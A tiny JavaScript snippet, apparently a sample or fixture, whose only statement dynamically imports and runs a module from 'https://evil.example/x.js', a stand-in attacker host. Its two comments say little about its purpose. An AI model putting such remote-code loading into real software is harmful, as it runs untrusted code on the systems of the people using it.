// Imports a module while it runs.
// There is nothing to import.
(async () => {
  await import('https://evil.example/x.js');
})();
